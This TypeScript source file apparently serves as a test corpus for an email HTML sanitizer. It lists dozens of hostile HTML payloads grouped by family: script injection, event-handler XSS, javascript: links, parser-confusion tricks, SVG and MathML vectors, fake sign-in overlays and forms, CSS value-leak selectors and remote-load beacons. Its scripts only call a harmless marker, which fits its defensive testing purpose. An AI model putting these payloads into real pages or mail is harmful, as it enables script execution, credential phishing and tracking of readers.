/** Something that a hostile mail may hold. If a script of it runs, it calls `top.ran` with its place in the list. */
export type Attack = { readonly name: string; readonly html: string };

/** `js` has neither spaces nor quotes; nobody may ask `url` for anything. */
type Written = (js: string, url: string) => string;

const scripts: Record<string, Written> = {
  "plain script": (js) => `<script>${js}</script>`,
  "script in capitals with a slash": (js) => `<SCRIPT/x>${js}</SCRIPT >`,
  "script within a script's name": (js) => `<scr<script>ipt>${js}</scr</script>ipt><script>${js}</script>`,
  "module script": (js) => `<script type=module>${js}</script>`,
  "script from elsewhere": (_, url) => `<script src="${url}/js"></script>`,
  "script that is never closed": (js) => `<p>a<script>${js}//`,
  "script in a table": (js) => `<table><script>${js}</script><tr><td>x</table>`,
  "script behind a NUL": (js) => `<scr\0ipt>${js}</scr\0ipt><img src=x onerror\0="${js}" onerror="${js}">`,
  "script in a data page": (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  "rules that speculate": (_, url) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}/speculate"]}]}</script>`,
};

const handlers: Record<string, Written> = {
  "picture that fails": (js) => `<img src=x: onerror="${js}">`,
  "picture that fails, slashes for spaces": (js) => `<img/src="x:"/onerror="${js}">`,
  "picture that fails, quotes of another kind": (js) => `<img src=\`x:\` onerror=${js}>`,
  "picture that loads": (js) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${js}">`,
  "body that loads": (js) => `<body onload="${js}" onpageshow="${js}">x`,
  "frame set that loads": (js) => `<frameset onload="${js}"><frame src="about:blank"></frameset>`,
  "field with the cursor": (js) => `<input autofocus onfocus="${js}">`,
  "list with the cursor": (js) => `<select autofocus onfocus="${js}"><option>x</select>`,
  "anything with the cursor": (js) => `<p tabindex=1 id=here autofocus onfocus="${js}">x</p>`,
  "details that open": (js) => `<details open ontoggle="${js}"><summary>x</summary></details>`,
  "writing that moves": (js) => `<marquee onstart="${js}" loop=1>x</marquee>`,
  "style that ends": (js) =>
    `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="${js}" onanimationend="${js}">x</p>`,
  "film that fails": (js) => `<video src=x: onerror="${js}"></video><video><source onerror="${js}" src=x:></video>`,
  "sound that fails": (js) => `<audio src=x: onerror="${js}"></audio>`,
  "pointer that passes": (js) => `<b onmouseover="${js}" onpointerenter="${js}" onclick="${js}">x</b>`,
  "handler in an unknown element": (js) => `<x-y onclick="${js}" onmouseover="${js}">x</x-y>`,
  "handler behind a broken quote": (js) => `<a title="a" b" onmouseover="${js}" href="#">x</a>`,
  "handler that a title hides": (js) => `<p title='"><img src=x: onerror=${js}>'>x</p>`,
  "handler behind a form feed": (js) => `<img\fsrc=x:\fonerror="${js}">`,
  "popover that opens": (js) =>
    `<button popovertarget=p autofocus onfocus="${js}">x</button><p popover id=p onbeforetoggle="${js}">y</p>`,
};

const links: Record<string, Written> = {
  "link that is a script": (js) => `<a href="javascript:${js}">x</a>`,
  "link with a tab in its scheme": (js) => `<a href="java\tscript:${js}">x</a>`,
  "link with entities": (js) => `<a href="&#106;avascript&colon;${js}">x</a>`,
  "link behind a control character": (js) => `<a href="&#1;javascript:${js}">x</a>`,
  "link in capitals behind spaces": (js) => `<a href="  JaVaScRiPt:${js}">x</a>`,
  "link to a data page": (js) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  "link of a drawing": (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  "link in a map": (js) =>
    `<img usemap=#m width=9 height=9><map name=m><area shape=default href="javascript:${js}"></map>`,
  "link that calls home": (_, url) => `<a href="#" ping="${url}/ping">x</a>`,
  "link to the whole window": () => `<a href="#x" target=_top>x</a>`,
};

/** Text for one parser and elements for another. */
const confusions: Record<string, Written> = {
  xmp: (js) => `<xmp><p title="</xmp><img src=x: onerror=${js}>"></xmp>`,
  "xmp with a script": (js) => `<xmp><script>${js}</script></xmp><img src=x: onerror=${js}>`,
  noembed: (js) => `<noembed><p title="</noembed><img src=x: onerror=${js}>"></noembed>`,
  noframes: (js) => `<noframes><style></noframes><img src=x: onerror=${js}></style>`,
  noscript: (js) => `<noscript><p title="</noscript><img src=x: onerror=${js}>"></noscript>`,
  textarea: (js) => `<textarea><img title="</textarea><img src=x: onerror=${js}>"></textarea>`,
  "title of the page": (js) => `<title><img title="</title><img src=x: onerror=${js}>"></title>`,
  style: (js) => `<style><a title="</style><img src=x: onerror=${js}>">`,
  iframe: (js) => `<iframe><p title="</iframe><img src=x: onerror=${js}>"></iframe>`,
  plaintext: (js) => `<svg><plaintext><img title="</plaintext><img src=x: onerror=${js}>">`,
  "chosen option": (js) =>
    `<select><button><selectedcontent></selectedcontent></button><option><img src=x: onerror=${js}></select>`,
  comment: (js) => `<!--><img src=x: onerror=${js}>--><!-- --!><img src=x: onerror=${js}>`,
  "comment for Outlook": (js) =>
    `<!--[if mso]><img src=x: onerror=${js}><![endif]--><![if !mso]><img src=x: onerror=${js}><![endif]>`,
  instruction: (js) => `<?xml version="1.0"?><img src=x: onerror=${js}><!doctype x [<!ENTITY y "z">]>`,
  "data section": (js) => `<svg><![CDATA[><img src=x: onerror=${js}>]]></svg>`,
  "half an element": (js) => `<img src=x: onerror="${js}"`,
  "end that begins": (js) => `</p onclick=1><img src=x: onerror=${js}></img onerror=${js}>`,
  "seven bits": (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-<img src=x: onerror=${js}>`,
};

const foreign: Record<string, Written> = {
  "drawing that loads": (js) => `<svg onload="${js}"></svg>`,
  "drawing with a script": (js) => `<svg><script>${js}</script></svg>`,
  "drawing with half a script": (js) => `<svg><script/href="data:text/javascript,${js}" /></svg>`,
  "drawing that moves": (js) => `<svg><animate attributeName=x dur=1s onbegin="${js}" /></svg>`,
  "drawing that changes a link": (js) =>
    `<svg><a><animate attributeName=href values="javascript:${js}" /><text y=20>x</text></a></svg>`,
  "drawing with a page in it": (js) => `<svg><foreignObject><img src=x: onerror="${js}"></foreignObject></svg>`,
  "drawing that uses another": (js) =>
    `<svg><use href="data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${js}'/></svg>#a"></use></svg>`,
  "drawing in a style": (js) => `<svg></p><style><a title="</style><img src=x: onerror=${js}>">`,
  "formula in a table": (js) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${js}></style></mglyph></form>`,
  "formula with a link": (js) => `<math href="javascript:${js}"><mi>x</mi></math>`,
  "formula that is annotated": (js) =>
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x: onerror=${js}>"></style></annotation-xml></math>`,
};

const frames: Record<string, Written> = {
  "frame with its page": (js) => `<iframe srcdoc="<script>parent.${js}</script><img src=x: onerror=${js}>"></iframe>`,
  "frame from elsewhere": (_, url) => `<iframe src="${url}/frame"></iframe>`,
  "frame that is a script": (js) => `<iframe src="javascript:${js}"></iframe>`,
  "frame within a frame's words": (js) => `<iframe><iframe></iframe><img src=x: onerror=${js}></iframe>`,
  embed: (js, url) => `<embed src="${url}/embed"><embed src="data:text/html,<script>${js}</script>">`,
  object: (_, url) => `<object data="${url}/object" type="text/html"></object>`,
  "shadow that hides": (js) => `<p><template shadowrootmode=open><img src=x: onerror=${js}></template></p>`,
};

const pages: Record<string, Written> = {
  "another base": (_, url) => `<base href="${url}/base/"><img src=a.png><a href=b>x</a>`,
  "a page that moves on": (_, url) => `<meta http-equiv=refresh content="0;url=${url}/refresh">`,
  "a page that moves on to a script": (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  "a policy of its own": (js) =>
    `<meta http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline'"><script>${js}</script>`,
  "a form": (_, url) => `<form action="${url}/form"><input name=p type=password><button>Sign in</button></form>`,
  "a form for the whole window": (_, url) => `<form action="${url}/top" target=_top><input type=submit></form>`,
  "a button that leads elsewhere": (js) => `<form><button formaction="javascript:${js}">x</button></form>`,
  "a form that takes names away": () => `<form name=body><input name=cookie><img name=getElementById></form>`,
  "a window above all": () => `<dialog open style="position:fixed;inset:0">Sign in again</dialog>`,
};

const styles: Record<string, Written> = {
  "cover over everything": () => `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>`,
  "cover that is pulled over": () =>
    `<div style="margin-top:-900px;position:sticky;top:0;height:900px">Sign in again</div>`,
  "sheet that imports": (_, url) => `<style>@import "${url}/import.css";</style>`,
  "sheet from elsewhere": (_, url) => `<link rel=stylesheet href="${url}/link.css">`,
  "letters from elsewhere": (_, url) =>
    `<style>@font-face{font-family:f;src:url(${url}/font)}p{font-family:f}</style><p>x</p>`,
  "background in a style": (_, url) => `<p style="background:url(${url}/bg)">x</p>`,
  "background in an escaped style": (_, url) =>
    `<p style="background:u\\72l(${url}/escaped);background-image:url(${url}/i)">x</p>`,
  "background behind a comment": (_, url) => `<p style="background:/**/url(${url}/comment)">x</p>`,
  "set of backgrounds": (_, url) => `<p style="background-image:image-set('${url}/set' 1x)">x</p>`,
  "pointer, list and border": (_, url) =>
    `<ul style="cursor:url(${url}/c),auto;list-style-image:url(${url}/l);border-image:url(${url}/b) 1"><li>x</ul>`,
  "content from elsewhere": (_, url) => `<style>p::before{content:url(${url}/content)}</style><p>x</p>`,
  "style that breaks out": (_, url) => `<p style="color:red}body{background:url(${url}/out)}p{">x</p>`,
  "variable that loads": (_, url) => `<p style="--a:url(${url}/var);background:var(--a)">x</p>`,
  "values that are read out": (_, url) =>
    `<style>input[value^=a]{background:url(${url}/leak)}</style><input value=abc>`,
  "old expression": (js) => `<p style="width:expression(${js});behavior:url(#x);-moz-binding:url(#y)">x</p>`,
};

const loads: Record<string, Written> = {
  "picture from elsewhere": (_, url) => `<img src="${url}/img">`,
  "picture without a scheme": (_, url) => `<img src="${url.replace("http:", "")}/relative">`,
  "picture with a backslash": (_, url) => `<img src="${url.replace("//", "\\\\")}/backslash">`,
  "set of pictures": (_, url) =>
    `<img srcset="${url}/srcset 1x"><picture><source srcset="${url}/source"><img></picture>`,
  "film with a poster": (_, url) => `<video poster="${url}/poster" src="${url}/video" autoplay preload=auto></video>`,
  sound: (_, url) => `<audio src="${url}/audio" autoplay></audio><audio><source src="${url}/source"></audio>`,
  "background of a table": (_, url) =>
    `<body background="${url}/body"><table background="${url}/table"><td background="${url}/td">x</table>`,
  "picture as a button": (_, url) => `<input type=image src="${url}/input">`,
  "links that fetch ahead": (_, url) =>
    `<link rel=prefetch href="${url}/p"><link rel=preload as=image href="${url}/q"><link rel=icon href="${url}/r"><link rel=modulepreload href="${url}/m">`,
  "links that connect ahead": (_, url) => `<link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}">`,
  "manifest and import": (_, url) => `<link rel=manifest href="${url}/manifest"><link rel=import href="${url}/import">`,
  "picture in a drawing": (_, url) => `<svg><image href="${url}/image" /><feImage href="${url}/fe" /></svg>`,
  "picture for Outlook": (_, url) =>
    `<v:image src="${url}/vml"><v:fill src="${url}/fill"><img dynsrc="${url}/dyn" lowsrc="${url}/low">`,
  "track of a film": (_, url) => `<video><track default src="${url}/track"></video>`,
  "long description": (_, url) => `<img longdesc="${url}/long" src="${url}/beacon" width=1 height=1>`,
};

/** Every attack there is. `url` is where their writers would like to hear from the reader. */
export function attacks(url: string): Attack[] {
  const families = { scripts, handlers, links, confusions, foreign, frames, pages, styles, loads };
  return Object.entries(families)
    .flatMap(([family, written]) =>
      Object.entries(written).map(([name, html]) => ({ name: `${family}: ${name}`, html })),
    )
    .map(({ name, html }, place) => ({ name, html: html(`top.ran(${place})`, url) }));
}
